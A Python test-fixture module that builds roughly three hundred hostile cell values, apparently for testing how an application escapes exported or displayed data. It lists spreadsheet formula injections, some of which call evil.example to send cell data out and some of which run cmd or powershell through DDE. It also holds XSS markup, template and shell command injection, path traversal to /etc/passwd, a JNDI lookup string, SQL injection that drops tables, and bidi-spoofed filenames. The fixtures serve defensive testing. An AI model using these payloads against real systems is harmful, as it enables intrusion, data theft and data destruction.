"""Three hundred cells nobody should be able to do harm with."""

from itertools import product

_LEADS = ("=", "+", "-", "@", "\t=", "\r=", "\n=", "  =", "\uff1d", "\uff0b", "\uff0d", "\uff20", "'=", '"=')
_CALLS = (
    "cmd|' /C calc'!A0",
    'HYPERLINK("https://evil.example/?x="&A1,"open")',
    'IMPORTXML(CONCAT("https://evil.example/?",A1:E9),"//a")',
    "1+1",
    "SUM(A1:A9)*cmd|' /C powershell'!A0",
    'WEBSERVICE("https://evil.example")',
    'DDE("cmd";"/C calc";"x")',
)
FORMULAS = [lead + call for lead, call in product(_LEADS, _CALLS)]  # 98

MARKUP = [
    "<script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '"><img src=x onerror=alert(1)>',
    "'><svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<a href=javascript:alert(1)>x</a>",
    "<body onload=alert(1)>",
    "<style>*{display:none}</style>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<form action=https://evil.example><input name=csrfmiddlewaretoken>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<!--<img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\u003cscript\u003ealert(1)",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    '" autofocus onfocus=alert(1) x="',
    "' onmouseover='alert(1)",
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "hx-get=/logout hx-trigger=load",
    '<div hx-get="/accounts/logout/" hx-trigger="load">',
    "<x data-dialog=palette>",
    "<textarea></textarea></select></table>",
    "<details open ontoggle=alert(1)>",
]
TEMPLATES = [
    "{{ 7 * 7 }}", "{% include 'x' %}", "{# x #}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "%s%s%s%n", "{0.__class__}",
    "{{ request.user.password }}", "{% csrf_token %}", "%(name)s", "$(id)", "`id`", "; id", "| id", "&& id",
    "../../../../etc/passwd", "..\\..\\windows\\win.ini", "file:///etc/passwd", "%00", "%2e%2e%2f",
    "${jndi:ldap://evil.example}",
]  # fmt: skip
QUESTIONS = [
    "'; drop table core_user; --", "' or '1'='1", "1; select pg_sleep(9)", "\" or \"\"=\"", "') or ('a'='a",
    "x' union select 1 --",
    "\\'; delete from core_event; --", "%' and 1=0 union all select null --", "$$; select 1; $$", "/* */ or 1=1",
]  # fmt: skip
STRUCTURE = [
    'a"b', 'a""b', '"', '""', 'a,b', "a;b", "a\tb", "a|b", "line\nbreak", "line\r\nbreak", "line\rbreak",
    'x",=1+1,"', "x\n=1+1",
    "x;=1+1", '"\n=1+1', "a\\,b", "a\\nb", "\u2028line", "\u2029line", "\u0085line",
]  # fmt: skip
CONTROLS = [f"a{chr(code)}b" for code in (*range(0x00, 0x09), 0x0B, 0x0C, *range(0x0E, 0x20), *range(0x7F, 0xA0))]  # 62
DIRECTIONS = [
    f"a{mark}b"
    for mark in (
        "\u202e", "\u202d", "\u202a", "\u202b", "\u202c", "\u2066", "\u2067", "\u2068", "\u2069", "\u200e",
        "\u200f", "\u061c",
        "\u200b", "\u2060", "\ufeff", "\u00ad", "\u180e", "\ufff9", "\ufffa", "\ufffb", "\u2063",
    )
] + ["\u202egnp.exe", "user\u202etxt.js", "\u2067\u202eana\u2069"]  # fmt: skip
ODD = [
    "Z\u0351\u034b" * 40, "\U0001f468\u200d\U0001f469\u200d\U0001f467", "\U000e0041\U000e0042", "ﷺ" * 30,
    "\u0000", "\ufffd", "\ufffe",
    "nul", "CON", "-0", "1e999", "NaN", "Infinity", "undefined", "null", "true", "0x41", "١٢٣", "𝟏𝟐𝟑", "ＡＢＣ",
    "admin\u0430",
    "x" * 121, "x" * 32_000, "x" * 32_768, " ", "\u00a0", "\u3000", "​", ".", "..", "#REF!", "#NAME?",
    "a" + "\u0301" * 200,
    "\U0010ffff",
]  # fmt: skip

CELLS = [*FORMULAS, *MARKUP, *TEMPLATES, *QUESTIONS, *STRUCTURE, *CONTROLS, *DIRECTIONS, *ODD]

INVISIBLE = {chr(code) for code in (*range(0x09), 0x0B, 0x0C, *range(0x0E, 0x20), *range(0x7F, 0xA0))}
INVISIBLE |= {*"\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200e\u200f\u061c\u200b\u2060\ufeff\ufffe"}
